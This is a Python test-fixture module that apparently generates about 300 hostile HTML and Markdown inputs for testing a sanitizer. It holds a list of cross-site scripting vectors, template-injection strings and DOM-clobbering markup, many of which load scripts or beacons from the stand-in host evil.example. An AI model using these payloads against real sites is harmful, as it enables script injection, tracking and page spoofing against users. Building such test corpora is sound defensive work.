"""Three hundred ways to make a page run a script, load something or look like the page itself."""

from __future__ import annotations

OUTSIDE = "http://evil.example"  # nobody is there; the tests abort what goes to it and count it
RUN = "window.hacked=1"

# Classic vectors: elements, attributes, schemes, encodings, broken markup, foreign content, mutations.
VECTORS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={OUTSIDE}/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src={OUTSIDE}/beacon.gif>",
    f'<img srcset="{OUTSIDE}/a.png 1x, {OUTSIDE}/b.png 2x">',
    f"<img/src='x'/onerror={RUN}//",
    f'<image href="{OUTSIDE}/x" onerror={RUN}>',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>go</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='{OUTSIDE}/x.svg#a'/></svg>",
    f"<svg><foreignObject><iframe src='javascript:{RUN}'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{RUN}'>go</math>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src={OUTSIDE}></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<object data={OUTSIDE}/x.swf></object>",
    f"<embed src='{OUTSIDE}/x'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x onerror={RUN}></video>",
    f"<video poster={OUTSIDE}/p.png></video>",
    f"<audio src={OUTSIDE}/a.mp3 autoplay></audio>",
    f"<source srcset={OUTSIDE}/s.png>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button formaction='javascript:{RUN}'>go</button>",
    f"<form action='{OUTSIDE}'><input type=submit></form>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href={OUTSIDE}/x.css>",
    f"<link rel=preload as=script href={OUTSIDE}/x.js>",
    f"<link rel=dns-prefetch href={OUTSIDE}>",
    f"<base href={OUTSIDE}/>",
    f"<style>@import '{OUTSIDE}/x.css';</style>",
    f"<style>body{{background:url({OUTSIDE}/x.png)}}</style>",
    f"<div style='background:url({OUTSIDE}/x.png)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>covers it all</div>",
    f"<p onmouseover={RUN}>x</p>",
    f"<a href='javascript:{RUN}'>go</a>",
    f"<a href='java\tscript:{RUN}'>go</a>",
    f"<a href='&#106;avascript:{RUN}'>go</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>go</a>",
    f"<a href='vbscript:{RUN}'>go</a>",
    f"<a ping='{OUTSIDE}' href='#'>go</a>",
    f"[go](javascript:{RUN})",
    f"[go](JaVaScRiPt:{RUN})",
    f"[go](&#x6A;avascript:{RUN})",
    "[go](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    f"![x]({OUTSIDE}/beacon.png)",
    f'![x"onerror="{RUN}]({OUTSIDE}/b.png)',
    f"[x]: javascript:{RUN}\n\n[x]",
    f"<javascript:{RUN}>",
    f"[x](http://a.example/'onmouseover='{RUN})",
    f'[x](http://a.example/ "title\\" onmouseover=\\"{RUN}")',
    f'<!--<img src="--><img src=x onerror={RUN}//">',
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"</textarea></script></style></title><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg/onload={RUN}>",
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1}",
    "{% set x = cycler.__init__.__globals__ %}{{ 7*7 }}",
    f"<x is=a onclick={RUN}>x</x>",
    "<form id=dialog><input name=children></form><a id=document></a>",
    "<h1 id=t1>a heading of mine</h1><main id=panels></main>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
)

_WAYS = ("{0}", "```html\n{0}\n```", "- a point\n\n  > {0}", "| a | b |\n|---|---|\n| {0} | `{0}` |")


def bodies() -> list[str]:
    """Each vector in prose, in code, in a quote within a list, and in a table: three hundred texts."""
    return [
        way.format(vector if "\n" not in way or "|" not in way else vector.replace("\n", " "))
        for vector in VECTORS
        for way in _WAYS
    ]


def names() -> list[str]:
    """The vectors that fit into a name or a heading: one line, not too long."""
    return [vector for vector in VECTORS if "\n" not in vector and len(vector) < 120]
